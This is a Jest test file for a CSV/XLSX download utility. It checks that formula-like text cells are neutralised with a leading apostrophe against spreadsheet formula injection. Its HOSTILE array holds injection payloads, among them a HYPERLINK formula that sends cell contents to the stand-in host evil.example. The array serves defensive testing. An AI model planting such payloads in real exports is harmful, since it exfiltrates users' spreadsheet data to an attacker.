/**
 * Spreadsheet formula injection (issue 13): a text cell that starts like a formula is written with a
 * leading `'` in the CSV and the XLSX download, so Excel shows it as text; numbers stay numbers.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { csvOf, neutraliseFormula, xlsxOf, type Sheet } from '@/utils/download';

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"点击")', '+1', '+1.5e3', '-1+1', '-A1', '@SUM(A1)', '\t=1+1', '\r=1+1'];

const SHEET: Sheet = {
  name: '测试',
  columns: ['名称', '=列', '值'],
  rows: [
    ...HOSTILE.map((text, i) => [text, '普通文字', i]),
    ['负数', '-3.2', -3.2],
    ['百分比', '-3.2%', 12.5],
    ['空', null, null],
  ],
};

describe('neutraliseFormula', () => {
  it.each(HOSTILE)('prefixes %j with an apostrophe', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves ordinary text, negative numbers written as text, numbers and empty cells alone', () => {
    expect(neutraliseFormula('青溪五金')).toBe('青溪五金');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('-3.2')).toBe('-3.2');
    expect(neutraliseFormula('-3.2%')).toBe('-3.2%');
    expect(neutraliseFormula('-1e3')).toBe('-1e3');
    expect(neutraliseFormula(-3.2)).toBe(-3.2);
    expect(neutraliseFormula(0)).toBe(0);
    expect(neutraliseFormula(null)).toBeNull();
    expect(neutraliseFormula('')).toBe('');
  });
});

describe('toCsv', () => {
  it('writes every formula-like text cell, header included, starting with an apostrophe', async () => {
    const csv = csvOf(Papa, SHEET);
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(['名称', "'=列", '值']);
    HOSTILE.forEach((text, i) => {
      expect(parsed[i + 1][0]).toBe(`'${text}`);
      expect(parsed[i + 1][2]).toBe(String(i));
    });
    // No cell of the file starts like a formula (a negative number apart).
    parsed.flat().forEach((cell) => expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?%?$)/.test(cell)).toBe(false));
    expect(parsed[HOSTILE.length + 1]).toEqual(['负数', '-3.2', '-3.2']);
    expect(parsed[HOSTILE.length + 2]).toEqual(['百分比', '-3.2%', '12.5']);
    expect(parsed[HOSTILE.length + 3]).toEqual(['空', '', '']);
  });
});

describe('toXlsx', () => {
  it('writes formula-like text as string cells starting with an apostrophe, never as formulas; numbers stay numbers', async () => {
    const buf = await xlsxOf(ExcelJS, SHEET);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf);
    const ws = wb.getWorksheet('测试')!;
    expect(ws.getCell('B1').value).toBe("'=列");
    HOSTILE.forEach((text, i) => {
      const cell = ws.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML keeps no bare carriage return: it reads back as a line feed.
      expect(cell.value).toBe(`'${text}`.replace(/\r/g, '\n'));
      expect(cell.formula).toBeFalsy();
      const n = ws.getRow(i + 2).getCell(3);
      expect(n.type).toBe(ExcelJS.ValueType.Number);
      expect(n.value).toBe(i);
    });
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Hyperlink);
      }),
    );
    const negative = ws.getRow(HOSTILE.length + 2);
    expect(negative.getCell(2).value).toBe('-3.2');
    expect(negative.getCell(3).type).toBe(ExcelJS.ValueType.Number);
    expect(negative.getCell(3).value).toBe(-3.2);
  });
});
